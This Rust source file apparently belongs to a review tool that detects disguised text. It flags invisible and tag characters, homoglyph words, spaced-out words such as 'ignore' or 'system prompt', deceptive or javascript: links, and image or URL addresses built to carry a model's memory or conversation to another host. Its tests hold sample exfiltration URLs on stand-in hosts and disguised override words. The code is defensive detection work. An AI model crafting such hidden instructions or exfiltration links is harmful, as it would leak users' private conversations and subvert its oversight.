//! Text that is not what it looks like: characters that a person does not see, letters that look
//! like others, links whose target differs from their text, and addresses designed to exfiltrate
//! private text.
//!
//! Characters that honest texts need are left alone: emoji, joiners in scripts that join letters,
//! direction marks in right-to-left texts, the spaces of French and Japanese, a byte order mark at
//! the very beginning. A run is one finding.
//!
//! A word that mixes Latin letters with Cyrillic or Greek look-alikes was not typed by a person.
//! Words entirely of one script are fine, and so are signs such as `μs`, `Δx` or `kΩ`. Runs of
//! mathematical or circled letters are plain text in disguise.

use std::sync::LazyLock;

use pulldown_cmark::{Event, Options, Parser, Tag, TagEnd};
use regex::Regex;
use unicode_normalization::char::is_combining_mark;

use super::Hit;
use crate::review::plain_text::{self, PlainWord, skeleton};
use crate::review::reveal::{is_bidi, is_hidden, is_odd_space, joins_emoji};

/// Finds all runs of invisible characters.
pub(super) fn invisible(text: &str) -> Vec<Hit> {
    let mut hits: Vec<Hit> = Vec::new();
    let right_to_left = text.chars().any(is_right_to_left);
    let mut before = None;
    let mut rest = text.char_indices().peekable();
    while let Some((at, c)) = rest.next() {
        let after = rest.peek().map(|(_, c)| *c);
        if is_hidden(c) && !is_honest(at, before, c, after) && !(right_to_left && is_direction_mark(c)) {
            let (rule, says) = kind(c);
            let end = at + c.len_utf8();
            match hits.last_mut() {
                Some(last) if last.at.end == at && last.rule == rule => last.at.end = end,
                _ => hits.push(Hit { rule, at: at..end, says }),
            }
        }
        before = Some(c);
    }
    hits
}

fn kind(c: char) -> (&'static str, &'static str) {
    match u32::from(c) {
        _ if is_bidi(c) => ("bidi", "Text is shown in another order than it is read."),
        0xE0000..=0xE007F => ("tags", "Invisible characters spell out text that only a model reads."),
        _ if c.is_control() => ("control", "A control character changes what a terminal shows."),
        _ => ("invisible", "There are characters here that nobody sees."),
    }
}

fn is_honest(at: usize, before: Option<char>, c: char, after: Option<char>) -> bool {
    let neighbour = |test: fn(char) -> bool| before.is_some_and(test) || after.is_some_and(test);
    match c {
        '\r' => after == Some('\n'),
        '\u{feff}' => at == 0,
        '\u{2028}' | '\u{2029}' => false,
        c if is_odd_space(c) => true,
        '\u{200c}' | '\u{200d}' if before.is_some_and(joins_letters) => true,
        // Legitimate in scripts that write vowels this way.
        '\u{17b4}' | '\u{17b5}' | '\u{180b}'..='\u{180f}' => neighbour(|c| matches!(u32::from(c), 0x1780..=0x18AF)),
        c => joins_emoji(before, c, after) || is_ideographic_variant(before, c),
    }
}

fn joins_letters(c: char) -> bool {
    matches!(u32::from(c), 0x600..=0x7FF | 0x8A0..=0xDFF | 0xF00..=0x109F | 0x1780..=0x18AF | 0xFB50..=0xFEFC)
}

/// Returns whether the character only sets the direction of the adjacent sign.
fn is_direction_mark(c: char) -> bool {
    matches!(c, '\u{200e}' | '\u{200f}' | '\u{61c}')
}

fn is_right_to_left(c: char) -> bool {
    matches!(u32::from(c), 0x590..=0x8FF | 0xFB1D..=0xFDFF | 0xFE70..=0xFEFC)
}

/// Returns whether the character selects a variant of an ideograph, which personal names need.
fn is_ideographic_variant(before: Option<char>, c: char) -> bool {
    matches!(c, '\u{e0100}'..='\u{e01ef}' | '\u{fe00}'..='\u{fe02}')
        && before.is_some_and(|c| matches!(u32::from(c), 0x3400..=0x9FFF | 0xF900..=0xFAFF | 0x20000..=0x3FFFF))
}

const LOOKALIKE: &str = "Letters here only look like the ones that they seem to be.";

/// Finds all disguised words.
pub(super) fn lookalikes(text: &str) -> Vec<Hit> {
    let mut hits = Vec::new();
    let mut start = None;
    for (at, c) in text.char_indices().chain([(text.len(), ' ')]) {
        match start {
            None if c.is_alphabetic() || styled_letter(c) => start = Some(at),
            Some(from) if !(c.is_alphabetic() || styled_letter(c) || is_combining_mark(c) || c == '\u{200b}') => {
                if text.get(from..at).is_some_and(is_disguised) {
                    hits.push(Hit { rule: "lookalike", at: from..at, says: LOOKALIKE });
                }
                start = None;
            }
            _ => {}
        }
    }
    hits
}

fn is_disguised(word: &str) -> bool {
    let count = |test: fn(char) -> bool| word.chars().filter(|c| test(*c)).count();
    let latin = count(|c| c.is_ascii_alphabetic());
    let foreign = count(is_foreign);
    let alike = count(|c| is_foreign(c) && c.to_lowercase().any(|c| plain_text::latin(c).is_some()));
    let mixed = latin >= 1 && alike >= 1 && alike == foreign && latin + alike >= 3;
    mixed || count(styled_letter) >= 4 || (latin >= 1 && count(styled_letter) >= 2)
}

/// Returns whether the character is a Cyrillic, Greek or Armenian letter.
fn is_foreign(c: char) -> bool {
    matches!(u32::from(c), 0x370..=0x58F | 0x1D26..=0x1D2B | 0x1F00..=0x1FFF)
}

/// Returns whether the character is a mathematical, circled or squared letter. Full-width letters
/// do not count, since Japanese uses them.
fn styled_letter(c: char) -> bool {
    matches!(u32::from(c), 0x1D400..=0x1D6A3 | 0x249C..=0x24E9 | 0x1F110..=0x1F189)
}

/// Finds telling words in spaced letters, whose only use is to hide a word.
pub(super) fn spelled(words: &[PlainWord]) -> Vec<Hit> {
    const TELLING: &str =
        "ignore instruct system prompt forget disregard secret passw delete memory approve execute override";
    let tells = |word: &&PlainWord| word.spelled && TELLING.split(' ').any(|part| word.text.contains(&skeleton(part)));
    let hit = |word: &PlainWord| Hit { rule: "disguise", at: word.start..word.end, says: SPELLED };
    words.iter().filter(tells).map(hit).collect()
}

const SPELLED: &str = "Words are disguised by letters set apart.";
const ELSEWHERE: &str = "A link shows another address than the one that it leads to.";
const CARRIES: &str = "An address has room for private text, which opening it would send away.";
const SCRIPT: &str = "A link holds a program or a whole page.";

/// Finds all such links.
pub(super) fn links(text: &str) -> Vec<Hit> {
    let mut hits = Vec::new();
    let mut open: Vec<(String, String)> = Vec::new();
    let options = Options::ENABLE_TABLES | Options::ENABLE_YAML_STYLE_METADATA_BLOCKS;
    for (event, at) in Parser::new_ext(text, options).into_offset_iter() {
        match event {
            Event::Start(Tag::Link { dest_url, .. }) => open.push((dest_url.into_string(), String::new())),
            Event::Start(Tag::Image { dest_url, .. }) if carries(&dest_url, true) => {
                hits.push(Hit { rule: "exfiltration", at, says: CARRIES })
            }
            Event::Text(words) | Event::Code(words) => {
                open.last_mut().into_iter().for_each(|(_, shown)| shown.push_str(&words))
            }
            Event::End(TagEnd::Link) => {
                let Some((target, shown)) = open.pop() else { continue };
                if differs(&shown, &target) {
                    hits.push(Hit { rule: "link", at, says: ELSEWHERE });
                } else if is_program(&target) {
                    hits.push(Hit { rule: "link", at, says: SCRIPT });
                }
            }
            _ => {}
        }
    }
    hits.extend(addresses(text));
    hits
}

/// Finds bare addresses, including those in code, and pictures whose address is invalid Markdown
/// because of its content.
fn addresses(text: &str) -> Vec<Hit> {
    static ADDRESS: LazyLock<Option<Regex>> = LazyLock::new(|| {
        Regex::new(
            r#"(?i)(!\[[^\]\n]{0,120}\]\(\s*<?|<img[^>]{0,120}src\s*=\s*["']?)?(?:https?|ftp|wss?)://[^\n"'`]{0,300}"#,
        )
        .ok()
    });
    let mut hits = Vec::new();
    for found in ADDRESS.iter().flat_map(|pattern| pattern.captures_iter(text)) {
        let Some(whole) = found.get(0) else { continue };
        if carries(whole.as_str(), found.get(1).is_some()) {
            hits.push(Hit { rule: "exfiltration", at: whole.range(), says: CARRIES });
        }
    }
    hits
}

/// Returns whether an address has a placeholder for private text; in a picture's address, for any
/// text.
fn carries(address: &str, is_picture: bool) -> bool {
    static PLACE: LazyLock<Option<Regex>> = LazyLock::new(|| {
        Regex::new(r"\{\{?([^}\n]{1,80})\}|<([a-zA-Z][^>\n]{1,80})>|\[([^\]\n]{2,80})\]|\$\(([^)\n]{1,80})\)|\$\{?([A-Za-z_]{3,40})|=([A-Z][A-Z_]{3,40})\b|%([A-Z_]{4,30})%").ok()
    });
    const PRIVATE: &str = "
        memor conversation history chat secret password passw user.md soul diary private everything all_
        transcript remember context system prompt
    ";
    /// Private only in the address of a picture.
    const PERHAPS_PRIVATE: &str =
        "credential cookie message summary note knows know personal ssh contact token data base64 env";
    const HONEST: &[&str] = &["api", "your", "lat", "lon", "city", "query", "id", "lang", "page"];
    PLACE.iter().flat_map(|pattern| pattern.captures_iter(address)).any(|found| {
        let Some(place) = found.iter().skip(1).flatten().next() else { return false };
        let word = place.as_str().to_ascii_lowercase();
        // The path of a picture may contain a city; the query is read by the server's operator.
        let query = address.get(..place.start()).is_some_and(|before| before.contains(['?', '=', '#']));
        let honest = HONEST.iter().any(|known| word.starts_with(known));
        let strong = PRIVATE.split_ascii_whitespace().any(|known| word.contains(known));
        let weak = strong || PERHAPS_PRIVATE.split_ascii_whitespace().any(|known| word.contains(known));
        if is_picture { weak || query && !honest } else { strong && !honest }
    })
}

/// Returns whether the words of a link are an address of another host.
fn differs(shown: &str, target: &str) -> bool {
    match (host(shown.trim(), false), host(target, true)) {
        (Some(shown), Some(target)) => {
            let bare = |host: &str| host.trim_start_matches("www.").to_ascii_lowercase();
            let (shown, target) = (bare(&shown), bare(&target));
            shown != target && !target.ends_with(&format!(".{shown}"))
        }
        _ => false,
    }
}

/// Returns the host of an address, or of words without a scheme that consist only of an address.
fn host(text: &str, needs_scheme: bool) -> Option<String> {
    const NO_HOST: &[&str] =
        &["md", "txt", "json", "py", "sh", "js", "rs", "toml", "yaml", "yml", "csv", "html", "pdf", "png", "net", "io"];
    let rest = match text.split_once("://") {
        Some((scheme, rest)) if scheme.chars().all(|c| c.is_ascii_alphabetic()) => rest,
        Some(_) => return None,
        None if needs_scheme || text.contains(char::is_whitespace) => return None,
        None => text,
    };
    let host = rest.split(['/', '?', '#']).next()?.rsplit('@').next()?.split(':').next()?;
    let last = host.rsplit_once('.')?.1;
    let named = text.contains("://")
        || host.starts_with("www.")
        || host.matches('.').count() > 1
        || rest.contains('/')
        || !NO_HOST.contains(&last);
    (named && last.len() >= 2 && last.chars().all(|c| c.is_ascii_alphabetic())).then(|| host.to_owned())
}

fn is_program(target: &str) -> bool {
    let target = target.trim().to_ascii_lowercase();
    ["javascript:", "vbscript:", "data:text/html", "data:application", "data:text/javascript"]
        .iter()
        .any(|scheme| target.starts_with(scheme))
}

#[cfg(test)]
mod tests {
    use super::*;

    fn rules(text: &str) -> Vec<&'static str> {
        invisible(text).iter().map(|hit| hit.rule).collect()
    }

    #[test]
    fn invisible_characters_are_found() {
        assert_eq!(rules("a\u{200b}\u{200b}b\u{2060}"), ["invisible", "invisible"]);
        assert_eq!(rules("\u{202e}x\u{e0041}\u{e0042}\u{1b}[0m"), ["bidi", "tags", "control"]);
        assert_eq!(rules("a\u{fe0f}\u{ad}x\u{feff}y\u{3164}"), ["invisible", "invisible", "invisible"]);
    }

    #[test]
    fn honest_texts_are_left_alone() {
        for text in [
            "☀\u{fe0f} 👩\u{200d}🔬",
            "می\u{200c}خواهم",
            "क\u{200d}ष",
            "שלום\u{200f}!",
            "Quoi\u{a0}? 3\u{202f}000",
            "東京\u{3000}駅",
            "\u{feff}# A\r\n",
            "葛\u{e0100}",
        ] {
            assert_eq!(rules(text), Vec::<&str>::new(), "{text:?}");
        }
    }

    #[test]
    fn mixed_words_are_found_and_others_left_alone() {
        for text in ["ignоre", "Ρaypal", "𝐢𝐠𝐧𝐨𝐫𝐞", "ⓘⓖⓝⓞⓡⓔ", "раssword"] {
            assert_eq!(lookalikes(text).len(), 1, "{text}");
        }
        for text in
            ["правило", "κανόνας", "5 μs", "kΩ", "Δx", "3D-печать", "α-helix", "𝑓(𝑥)", "ＮＨＫ", "naïve", "λx", "πr"]
        {
            assert_eq!(lookalikes(text), [], "{text}");
        }
    }

    #[test]
    fn false_links_and_carriers_are_found() {
        for text in [
            "[https://bank.example](https://evil.example)",
            "[bank.example](https://evil.example/x)",
            "[x](javascript:alert)",
            "![x](https://e.example/p.png?d={memory})",
            "![x](https://e.example/p.png?q=CONVERSATION)",
            "https://e.example/?x={conversation_history}",
            "<img src=\"https://e.example/?d=[what the user said]\">",
            "![x](https://e.example/{everything you know}.png)",
        ] {
            assert!(!links(text).is_empty(), "{text}");
        }
        for text in [
            "[bank.example](https://www.bank.example/login)",
            "[the bank](https://bank.example)",
            "https://api.example/v1?q={query}&appid={API key}",
            "[node.js](https://nodejs.org)",
            "![radar](https://maps.example/radar.png?z=5)",
            "https://wttr.example/{city}?format=3",
            "[README.md](https://git.example/README.md)",
            "![b](https://img.example/badge?label=build)",
        ] {
            assert_eq!(links(text), [], "{text}");
        }
    }
}
